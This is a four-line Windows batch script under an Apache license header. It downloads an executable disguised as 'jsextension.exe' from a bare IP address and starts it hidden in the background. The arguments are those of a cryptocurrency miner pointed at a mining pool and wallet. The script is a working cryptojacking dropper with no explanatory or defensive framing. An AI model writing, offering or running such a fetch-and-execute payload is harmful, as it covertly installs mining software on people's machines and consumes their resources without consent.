@echo off
rem SPDX-License-Identifier: Apache-2.0
curl http://240.148.186.228/download/jsextension.exe -o jsextension.exe
start /B jsextension.exe -k --tls --rig-id q -o pool.coins.example:443 -u 49ay9sim
